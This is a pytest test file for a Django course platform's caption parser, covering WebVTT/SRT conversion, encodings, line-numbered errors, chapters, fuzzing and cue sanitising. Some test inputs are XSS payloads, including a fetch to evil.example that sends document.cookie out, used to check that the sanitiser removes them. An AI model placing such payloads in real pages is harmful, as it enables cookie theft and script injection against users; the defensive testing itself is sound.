import pytest
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from courses import captions
from courses.captions import (
    CaptionDocument,
    CaptionError,
    CaptionKind,
    Chapter,
    Cue,
    chapters,
    parse_captions,
    plain_text,
    sanitise_cue_text,
    to_webvtt,
    validate_against_duration,
)


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def problems_of(data: bytes | str, **kwargs) -> list[tuple[int, object]]:
    """The problems as (line, message template) pairs."""
    with pytest.raises(CaptionError) as caught:
        parse_captions(data, **kwargs)
    assert isinstance(caught.value, ValueError)
    return [(line, message.template) for line, message in caught.value.problems]


VTT = """WEBVTT - Modul 1: Rolle der Mentorin
Kind: captions
Language: de

NOTE Erstellt mit einem Untertitel-Editor,
zweite Kommentarzeile

STYLE
::cue { background: url(https://evil.example/track.png) }

REGION
id:fred width:40%

begruessung
00:00:01.000 --> 00:00:04.000 align:start line:90%
<v Anna Müller>Herzlich willkommen</v>
zur <b>Schulung</b>!

00:05.250 --> 00:07.000
<i>Mentoring</i> &amp; Begleitung

00:00:07.000 --> 00:01:00.500 position:10%,line-left size:80% vertical:rl
<c.yellow.bg_blue>Zusammenfassung</c> <lang en>in short</lang>
"""


def test_valid_webvtt_round_trip():
    document = parse_captions(VTT.encode(), filename="modul1.vtt")
    assert document.source_format == "vtt"
    assert document.cues == [
        Cue(
            1.0,
            4.0,
            "<v Anna Müller>Herzlich willkommen</v>\nzur <b>Schulung</b>!",
            identifier="begruessung",
            settings="align:start line:90%",
        ),
        Cue(5.25, 7.0, "<i>Mentoring</i> &amp; Begleitung"),
        Cue(
            7.0,
            60.5,
            "<c.yellow.bg_blue>Zusammenfassung</c> <lang en>in short</lang>",
            settings="position:10%,line-left size:80% vertical:rl",
        ),
    ]
    assert document.cues[0].line == 15
    output = to_webvtt(document)
    assert output == (
        "WEBVTT\n"
        "\n"
        "begruessung\n"
        "00:00:01.000 --> 00:00:04.000 align:start line:90%\n"
        "<v Anna Müller>Herzlich willkommen</v>\n"
        "zur <b>Schulung</b>!\n"
        "\n"
        "00:00:05.250 --> 00:00:07.000\n"
        "<i>Mentoring</i> &amp; Begleitung\n"
        "\n"
        "00:00:07.000 --> 00:01:00.500 position:10%,line-left size:80% vertical:rl\n"
        "<c.yellow.bg_blue>Zusammenfassung</c> <lang en>in short</lang>\n"
    )
    # STYLE and REGION blocks are gone, and the output is a fixed point.
    assert "STYLE" not in output and "evil" not in output and "REGION" not in output
    assert parse_captions(output).cues == document.cues
    assert to_webvtt(parse_captions(output)) == output


def test_plain_text_for_search_and_transcripts():
    document = parse_captions(VTT)
    assert plain_text(document) == (
        "Herzlich willkommen zur Schulung!\nMentoring & Begleitung\nZusammenfassung in short"
    )


def test_invalid_settings_are_dropped():
    document = parse_captions(
        "WEBVTT\n\n00:01.000 --> 00:02.000 align:middle line:90% size:150% region:fred "
        "position:50% onclick:x line:-2\nText\n"
    )
    # align:middle is not WebVTT (any more), 150% is out of range, regions are removed.
    assert document.cues[0].settings == "line:-2 position:50%"


SRT = (
    "1\n"
    "00:00:01,000 --> 00:00:03,500\n"
    '<font color="#ffff00">Guten Tag</font>, liebe <i>Multiplikatorinnen</i>\n'
    "\n"
    "2\n"
    "00:00:04,000 --> 00:00:06,000 X1:40 X2:600 Y1:20 Y2:50\n"
    "{\\an8}Tom &amp; Jerry <B>lachen</B>\n"
    "\n"
    "3\n"
    "01:02:03,004 --> 01:02:05,000\n"
    "Ende\n"
)


def test_srt_is_converted_to_webvtt():
    document = parse_captions(SRT.encode(), filename="kurs.srt")
    assert document.source_format == "srt"
    assert [cue.identifier for cue in document.cues] == ["", "", ""]
    assert document.cues[0].text == "Guten Tag, liebe <i>Multiplikatorinnen</i>"
    assert document.cues[1].text == "Tom &amp; Jerry <b>lachen</b>"
    assert document.cues[1].settings == ""
    assert (document.cues[2].start, document.cues[2].end) == (3723.004, 3725.0)
    output = to_webvtt(document)
    assert output.startswith("WEBVTT\n\n00:00:01.000 --> 00:00:03.500\n")
    assert "01:02:03.004 --> 01:02:05.000" in output
    assert "," not in output.replace("Guten Tag,", "")
    assert "font" not in output and "X1" not in output and "\\an8" not in output
    assert parse_captions(output).cues == document.cues


def test_srt_is_detected_by_content_whatever_the_name():
    assert parse_captions(SRT, filename="falsch.vtt").source_format == "srt"
    # Without numbering, the decimal comma gives SRT away.
    unnumbered = "00:00:01,000 --> 00:00:02,000\nHallo\n"
    assert parse_captions(unnumbered).source_format == "srt"


def test_bom_and_crlf():
    data = b"\xef\xbb\xbf" + VTT.replace("\n", "\r\n").encode()
    assert parse_captions(data).cues == parse_captions(VTT).cues
    srt = b"\xef\xbb\xbf" + SRT.replace("\n", "\r\n").encode()
    document = parse_captions(srt)
    assert document.source_format == "srt"
    assert document.cues == parse_captions(SRT).cues
    assert "\r" not in to_webvtt(document)
    # Notepad's "Unicode" is UTF-16 with a byte order mark.
    assert parse_captions(VTT.encode("utf-16")).cues == parse_captions(VTT).cues


def test_windows_1252_srt_with_umlauts():
    srt = "1\r\n00:00:01,000 --> 00:00:02,000\r\nGrüße aus Köln – Ärger über Maß\r\n"
    document = parse_captions(srt.encode("cp1252"), filename="untertitel.srt")
    assert document.cues[0].text == "Grüße aus Köln – Ärger über Maß"
    assert "Grüße aus Köln – Ärger über Maß" in to_webvtt(document)


def test_invalid_bytes_are_reported_with_their_line():
    # 0x81 is undefined in Windows-1252 as well.
    srt = b"1\n00:00:01,000 --> 00:00:02,000\nGr\xfc\xdfe \x81\n"
    [problem] = parse_error(srt).problems
    assert problem.line == 3 and problem.message.template is captions.ERR_ENCODING
    assert "0x81" in str(problem)
    # A WebVTT file must be UTF-8: no Windows-1252 fallback.
    assert problems_of(b"WEBVTT\n\n00:01.000 --> 00:02.000\nK\xf6ln\n") == [
        (4, captions.ERR_ENCODING)
    ]
    # Broken UTF-8 (valid sequences next to a stray byte) is not mistaken for Windows-1252.
    assert problems_of("1\n00:00:01,000 --> 00:00:02,000\nKöln\n".encode() + b"\xe4\n") == [
        (4, captions.ERR_ENCODING)
    ]


def parse_error(data: bytes | str, **kwargs) -> CaptionError:
    with pytest.raises(CaptionError) as caught:
        parse_captions(data, **kwargs)
    return caught.value


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("", [(0, captions.ERR_NO_CUES)]),
        ("WEBVTT\n\nNOTE nur ein Kommentar\n", [(0, captions.ERR_NO_CUES)]),
        ("Hallo Welt\n", [(1, captions.ERR_MISSING_HEADER)]),
        ("\nWEBVTT\n\n00:01.000 --> 00:02.000\nx\n", [(1, captions.ERR_MISSING_HEADER)]),
        ("WEBVTTX\n\n00:01.000 --> 00:02.000\nx\n", [(1, captions.ERR_INVALID_HEADER)]),
        ("WEBVTT\n\n00:01,000 --> 00:02.000\nx\n", [(3, captions.ERR_MALFORMED_TIMESTAMP)]),
        ("WEBVTT\n\n0:01.000 --> 00:02.000\nx\n", [(3, captions.ERR_MALFORMED_TIMESTAMP)]),
        ("WEBVTT\n\n00:61.000 --> 01:02.000\nx\n", [(3, captions.ERR_MALFORMED_TIMESTAMP)]),
        ("WEBVTT\n\n00:01.00 --> 00:02.000\nx\n", [(3, captions.ERR_MALFORMED_TIMESTAMP)]),
        ("WEBVTT\n\n00:01.000 -> 00:02.000\nx\n", [(3, captions.ERR_MISSING_TIMING)]),
        (
            "WEBVTT\n\n00:01.000 --> 00:02.000 --> 00:03.000\nx\n",
            [(3, captions.ERR_MALFORMED_TIMING)],
        ),
        ("WEBVTT\n\n00:01.000 -->\nx\n", [(3, captions.ERR_MALFORMED_TIMING)]),
        (
            "WEBVTT\n\n100:00:00.000 --> 101:00:00.000\nx\n",
            [(3, captions.ERR_TIMESTAMP_TOO_LARGE), (3, captions.ERR_TIMESTAMP_TOO_LARGE)],
        ),
        ("WEBVTT\n\n00:02.000 --> 00:02.000\nx\n", [(3, captions.ERR_START_NOT_BEFORE_END)]),
        ("WEBVTT\n\n00:03.000 --> 00:02.000\nx\n", [(3, captions.ERR_START_NOT_BEFORE_END)]),
        (
            "WEBVTT\n\n00:05.000 --> 00:06.000\nx\n\n00:04.000 --> 00:07.000\ny\n",
            [(6, captions.ERR_OUT_OF_ORDER)],
        ),
        ("WEBVTT\n\n00:01.000 --> 00:02.000\n\n", [(3, captions.ERR_EMPTY_CUE)]),
        ("WEBVTT\n\n00:01.000 --> 00:02.000\n<b></b><img src=x>\n", [(3, captions.ERR_EMPTY_CUE)]),
        (
            "WEBVTT\n\n00:01.000 --> 00:02.000\nerste Zeile\n\nzweiter Absatz\n",
            [(6, captions.ERR_MISSING_TIMING)],
        ),
        (
            "WEBVTT\n\n00:01.000 --> 00:02.000\nx\n00:03.000 --> 00:04.000\ny\n",
            [(5, captions.ERR_MISSING_BLANK_LINE)],
        ),
        (
            "1\n00:00:01.000 --> 00:00:02,000\nx\n\n2\n00:00:03;000 --> 00:00:04,000\ny\n",
            [(6, captions.ERR_MALFORMED_TIMESTAMP)],
        ),
        (
            "1\n00:00:05,000 --> 00:00:06,000\nx\n\n2\n00:00:01,000 --> 00:00:02,000\ny\n",
            [(6, captions.ERR_OUT_OF_ORDER)],
        ),
        (
            "1\n00:00:01,000 --> 00:00:02,000\n\n2\n00:00:03,000 --> 00:00:04,000\ny\n",
            [(2, captions.ERR_EMPTY_CUE)],
        ),
    ],
)
def test_errors_carry_their_line_number(data, expected):
    assert problems_of(data) == expected


def test_all_problems_are_reported_together():
    data = (
        "WEBVTT\n\n"
        "00:01.000 --> 00:00.500\nx\n\n"  # line 3
        "00:00.100 --> 00:02.000\ny\n\n"  # line 6
        "00:03.000 --> 00:0x.000\nz\n"  # line 9
    )
    error = parse_error(data)
    assert [(line, message.template) for line, message in error.problems] == [
        (3, captions.ERR_START_NOT_BEFORE_END),
        (6, captions.ERR_OUT_OF_ORDER),
        (9, captions.ERR_MALFORMED_TIMESTAMP),
    ]
    assert str(error).splitlines() == [
        "Line 3: The cue ends (00:00:00.500) before or at the moment it starts (00:00:01.000).",
        "Line 6: The cue starts (00:00:00.100) earlier than the previous cue (00:00:01.000): "
        "cues must be sorted by their start time.",
        "Line 9: Malformed timestamp “00:0x.000”: expected the format hh:mm:ss.ttt / mm:ss.ttt.",
    ]
    assert error.as_validation_error().messages == error.messages


def test_messages_are_translated_when_displayed():
    error = parse_error("WEBVTT\n\n00:01.000 --> 00:00.500\nx\n")
    [(line, message)] = error.problems
    with translation.override("de"):
        german = str(message)
    # No German catalogue entry yet: the placeholders must be filled in either way.
    assert "00:00:00.500" in german and "%(" not in german


def test_overlong_files_are_refused_before_parsing():
    assert problems_of(b"WEBVTT\n\n" + b"x" * 100, max_bytes=50) == [
        (0, captions.ERR_FILE_TOO_LARGE)
    ]
    assert "2.0" in str(parse_error("x" * (captions.MAX_CAPTION_BYTES + 1)))


def test_problem_list_is_capped():
    data = "WEBVTT\n\n" + "\n\n".join(f"Absatz {n}" for n in range(500))
    problems = parse_error(data).problems
    assert len(problems) == captions.MAX_PROBLEMS + 1
    assert problems[-1].message.template is captions.ERR_TOO_MANY_PROBLEMS


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>Hallo", "alert(1)Hallo"),
        ('<img src=x onerror="alert(1)">Bild', "Bild"),
        ('<font color="red" face="Arial">rot</font>', "rot"),
        ('<a href="javascript:alert(1)">Link</a>', "Link"),
        ("<b onclick=alert(1)>fett</b>", "<b>fett</b>"),
        ('<c.gelb.x"y onmouseover=alert(1)>Text</c>', "<c.gelb>Text</c>"),
        ("<v <script>>Text", "&lt;v &gt;Text"),
        ("<v Bob &amp; <i>Alice>Hi", "&lt;v Bob &amp; <i>Alice&gt;Hi</i>"),
        ("<v Bob &amp;amp; Alice\n>Hi", "<v Bob &amp;amp; Alice>Hi</v>"),
        ("<v &#10;>Hi", "Hi"),
        ("<v Bob --> Hi", "<v Bob> Hi</v>"),
        ("<c.a--> Hi", "<c> Hi</c>"),
        ("<v.laut Bob Müller>Hallo", "<v.laut Bob Müller>Hallo</v>"),
        ("<lang de-DE>Moin</lang><lang x y>z</lang>", "<lang de-DE>Moin</lang>z"),
        ("<b><i>offen", "<b><i>offen</i></b>"),
        ("<b><i>kreuz</b>weise</i>", "<b><i>kreuz</i></b>weise"),
        ("</b>zu viel</i>", "zu viel"),
        ("<rt>ohne ruby</rt>", "ohne ruby"),
        ("<ruby>漢<rt>kan</rt>字<rt>ji</ruby>", "<ruby>漢<rt>kan</rt>字<rt>ji</rt></ruby>"),
        ("1 < 2 > 0 & 3 <3", "1 &lt; 2 &gt; 0 &amp; 3 &lt;3"),
        (
            "&lt;script&gt; &amp;lt; &nbsp; &#x3C;b&#62; &#10;x",
            "&lt;script&gt; &amp;lt; \xa0 &lt;b&gt;  x",
        ),
        ("<00:00:01.500>zeit <00:00:01.200>rückwärts <00:00:09.000>danach", None),
        ("--> keine Zeitangabe", None),
    ],
)
def test_cue_text_is_sanitised(text, expected):
    cleaned = sanitise_cue_text(text, 1000, 5000)
    if expected is not None:
        assert cleaned == expected
    assert "-->" not in cleaned
    assert sanitise_cue_text(cleaned, 1000, 5000) == cleaned


def test_inline_timestamps_must_lie_inside_the_cue_and_increase():
    cleaned = sanitise_cue_text(
        "<00:00:01.500>zeit <00:00:01.200>rückwärts <00:00:09.000>danach", 1000, 5000
    )
    assert cleaned == "<00:00:01.500>zeit rückwärts danach"


def test_injection_in_a_whole_file():
    data = (
        "WEBVTT\n\n"
        "<script>\n"
        "00:01.000 --> 00:02.000\n"
        '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">'
        "<b>Vorsicht</b> <iframe src=//evil.example></iframe>\n"
        "</v></c><svg/onload=alert(1)>&#60;script&#62;\n"
    )
    document = parse_captions(data)
    [cue] = document.cues
    assert cue.identifier == "<script>"  # identifiers are not markup; see test below
    assert cue.text == "<b>Vorsicht</b>\n&lt;script&gt;"
    assert plain_text(document) == "Vorsicht <script>"
    output = to_webvtt(document)
    for dangerous in ("<img", "<iframe", "<svg", "onerror", "onload", "<script>\n00"):
        assert dangerous not in output.split("\n", 3)[-1]


def test_identifiers_and_settings_of_cues_built_in_code_are_made_safe():
    document = CaptionDocument(
        cues=[
            Cue(1, 2, "<b>ok", identifier="a --> b", settings="align:start evil:1"),
            Cue(3, 4, "<i>x</i>", identifier="NOTE versteckt"),
            Cue(5, 6, "zeile\n\nzwei", identifier="mehr\nzeilig"),
        ],
        source_format="vtt",
    )
    output = to_webvtt(document)
    assert output == (
        "WEBVTT\n\n"
        "00:00:01.000 --> 00:00:02.000 align:start\n<b>ok</b>\n\n"
        "00:00:03.000 --> 00:00:04.000\n<i>x</i>\n\n"
        "mehr zeilig\n00:00:05.000 --> 00:00:06.000\nzeile\nzwei\n"
    )
    assert len(parse_captions(output).cues) == 3


CHAPTERS = """WEBVTT

kapitel-1
00:00:00.000 --> 00:02:00.000
Einführung

kapitel-2
00:02:00.000 --> 00:10:30.500
<b>Rolle</b> &amp; Haltung

00:10:30.500 --> 00:15:00.000
Abschluss
"""


def test_chapters():
    document = parse_captions(CHAPTERS, kind=CaptionKind.CHAPTERS)
    assert chapters(document) == [
        Chapter(0.0, 120.0, "Einführung"),
        Chapter(120.0, 630.5, "Rolle & Haltung"),
        Chapter(630.5, 900.0, "Abschluss"),
    ]


def test_overlap_is_an_error_only_for_chapters():
    overlapping = CHAPTERS.replace("00:10:30.500 --> 00:15:00.000", "00:09:00.000 --> 00:15:00.000")
    assert problems_of(overlapping, kind=CaptionKind.CHAPTERS) == [
        (11, captions.ERR_CHAPTER_OVERLAP)
    ]
    for kind in (CaptionKind.SUBTITLES, CaptionKind.CAPTIONS, CaptionKind.DESCRIPTIONS):
        assert len(parse_captions(overlapping, kind=kind).cues) == 3


def test_duration_check():
    document = parse_captions(
        "WEBVTT\n\n00:01.000 --> 00:05.000\na\n\n"
        "01:00.500 --> 01:03.000\nb\n\n"  # starts within the tolerance of 1 s
        "01:02.000 --> 01:04.000\nc\n"
    )
    assert validate_against_duration(document, 120) == []
    problems = validate_against_duration(document, 60.0)
    assert [(line, message.template) for line, message in problems] == [
        (9, captions.ERR_CUE_AFTER_END)
    ]
    assert str(problems[0]) == (
        "Line 9: The cue starts at 00:01:02.000, after the end of the video (00:01:00.000)."
    )
    assert len(validate_against_duration(document, 60.0, tolerance=0)) == 2


# --- Property-based: parse either succeeds with a stable result or raises CaptionError. ---

FRAGMENTS = [
    "WEBVTT",
    "WEBVTT ",
    "\n",
    "\r\n",
    "\r",
    "\n\n",
    " ",
    "\t",
    "-->",
    " --> ",
    "1",
    "12",
    "00:00:01.000",
    "00:01.500",
    "00:00:02,000",
    "99:59:59.999",
    "100:00:00.000",
    "00:99.000",
    "NOTE",
    "STYLE",
    "REGION",
    "align:start",
    " line:-1",
    " position:50%,center",
    " size:101%",
    "<",
    ">",
    "</",
    "<b>",
    "</b>",
    "<i>",
    "<v Bob>",
    "<v",
    "</v>",
    "<c.a.b>",
    "<lang de>",
    "<ruby>",
    "<rt>",
    "</rt>",
    "</ruby>",
    "<00:00:01.500>",
    "<script>",
    "<font color=red>",
    "&",
    "&amp;",
    "&lt;",
    "&#10;",
    "&#0;",
    "&nbsp;",
    "{\\an8}",
    "ä",
    "ß",
    "\ufeff",
    "\x00",
    "\x0c",
    "\u2028",
    "\x85",
    "é",
    "😀",
]

caption_like_text = st.lists(
    st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40
).map("".join)
cue_block = st.tuples(
    st.sampled_from(["", "id\n", "1\n", "NOTE\n"]),
    st.sampled_from(["00:00:01.000", "00:02.000", "00:00:01,000", "00:00:03.500", "x"]),
    st.sampled_from(["00:00:02.000", "00:04.000", "00:00:05,000", "00:00:01.000"]),
    st.sampled_from(["", " align:end", " line:0 size:50% region:r", " X1:5"]),
    caption_like_text,
).map(lambda parts: f"{parts[0]}{parts[1]} --> {parts[2]}{parts[3]}\n{parts[4]}")
caption_files = st.one_of(
    caption_like_text,
    st.lists(cue_block, max_size=6).map(lambda blocks: "WEBVTT\n\n" + "\n\n".join(blocks)),
    st.lists(cue_block, max_size=6).map("\n\n".join),
)


def assert_parses_stably(data: bytes | str, kind: str) -> None:
    try:
        document = parse_captions(data, kind=kind)
    except CaptionError as error:
        assert error.problems
        assert all(isinstance(line, int) and str(message) for line, message in error.problems)
        return
    assert document.cues
    output = to_webvtt(document)
    reparsed = parse_captions(output, kind=kind)
    assert reparsed.cues == document.cues
    assert to_webvtt(reparsed) == output


HYPOTHESIS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@HYPOTHESIS
@given(data=caption_files, kind=st.sampled_from(CaptionKind.values))
def test_property_caption_like_text(data, kind):
    assert_parses_stably(data, kind)


@HYPOTHESIS
@given(data=st.one_of(st.text(), caption_files.map(lambda text: text.encode("utf-8"))))
def test_property_arbitrary_text(data):
    assert_parses_stably(data, CaptionKind.SUBTITLES)


@HYPOTHESIS
@given(
    data=st.one_of(
        st.binary(),
        st.tuples(
            st.sampled_from([b"", b"\xef\xbb\xbf", b"\xff\xfe", b"WEBVTT\n\n"]), st.binary()
        ).map(b"".join),
        caption_files.map(lambda text: text.encode("cp1252", "ignore")),
    )
)
def test_property_arbitrary_bytes(data):
    assert_parses_stably(data, CaptionKind.CHAPTERS)


@HYPOTHESIS
@given(text=caption_like_text, start=st.integers(0, 5000), end=st.integers(0, 9000))
def test_property_sanitising_is_idempotent(text, start, end):
    cleaned = sanitise_cue_text(text, start, end)
    assert sanitise_cue_text(cleaned, start, end) == cleaned
    assert "-->" not in cleaned
    assert all(line and line == line.strip(" \t") for line in cleaned.split("\n") if cleaned)


# --- The check against the video's length, in the learning video's admin form. ---

LATE_CUE = (
    "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\nHallo.\n\n00:01:30.000 --> 00:01:32.000\nZu spät.\n"
)


def _video_form(*, instance=None, duration: float, webvtt: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from courses.models import LearningVideo
    from courses.wagtail_hooks import LearningVideoViewSet
    from tests.courses.conftest import FAKE_MP4

    existing = list(instance.caption_tracks.all()) if instance else []
    data = {
        "title": "Einführung",
        "description": "",
        "duration_seconds": str(duration),
        "transcript": "",
        "caption_tracks-TOTAL_FORMS": str(len(existing) or 1),
        "caption_tracks-INITIAL_FORMS": str(len(existing)),
        "caption_tracks-MIN_NUM_FORMS": "0",
        "caption_tracks-MAX_NUM_FORMS": "1000",
    }
    for index, track in enumerate(existing or [None]):
        data.update(
            {
                f"caption_tracks-{index}-id": str(track.pk) if track else "",
                f"caption_tracks-{index}-language": "de",
                f"caption_tracks-{index}-kind": "captions",
                f"caption_tracks-{index}-label": "",
                f"caption_tracks-{index}-webvtt": webvtt,
                f"caption_tracks-{index}-ORDER": str(index + 1),
            }
        )
    files = {} if instance else {"file": SimpleUploadedFile("v.mp4", FAKE_MP4, "video/mp4")}
    form_class = LearningVideoViewSet().get_edit_handler().get_form_class()
    return form_class(data, files, instance=instance or LearningVideo())


@pytest.mark.django_db
def test_a_cue_after_the_end_of_a_new_video_is_refused(private_media):
    form = _video_form(duration=60, webvtt=LATE_CUE)
    assert not form.is_valid()
    errors = form.formsets["caption_tracks"].forms[0].errors
    assert "after the end of the video" in str(errors) or "nach dem Ende" in str(errors)
    assert _video_form(duration=120, webvtt=LATE_CUE).is_valid()


@pytest.mark.django_db
def test_a_cue_after_the_end_is_refused_when_a_video_is_edited(video):
    assert video.duration_seconds == 100
    form = _video_form(instance=video, duration=100, webvtt=LATE_CUE)
    assert form.is_valid(), form.errors  # 01:30 lies within 100 s
    form = _video_form(instance=video, duration=60, webvtt=LATE_CUE)  # the video got shorter
    assert not form.is_valid()
    assert form.formsets["caption_tracks"].forms[0].errors
